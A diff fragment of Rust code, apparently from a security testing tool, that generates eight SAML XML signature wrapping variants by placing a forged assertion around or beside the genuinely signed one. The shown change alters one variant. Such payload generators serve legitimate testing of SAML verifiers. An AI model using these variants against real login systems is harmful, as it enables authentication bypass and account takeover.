@@ -46,7 +46,7 @@ fn eight(p: &Parts) -> [String; 8] {
         format!("{}{}", evil(""), p.whole),
         replaced(&evil(""), "</saml2:Assertion>", &format!("{}</saml2:Assertion>", p.whole)),
         format!("{}{}", evil(&p.signature), p.bare),
-        evil(&with_object(&p.signature, &replaced(&p.bare, "<saml2:Issuer>", "<saml2:Issuer>"))),
+        evil(&with_object(&p.signature, &p.whole)),
         format!("<x:Extensions xmlns:x=\"urn:x\">{}</x:Extensions>{}", evil(""), p.whole),
         format!("{}<x:Wrapper xmlns:x=\"urn:x\">{}</x:Wrapper>", evil(&p.signature), p.bare),
     ]
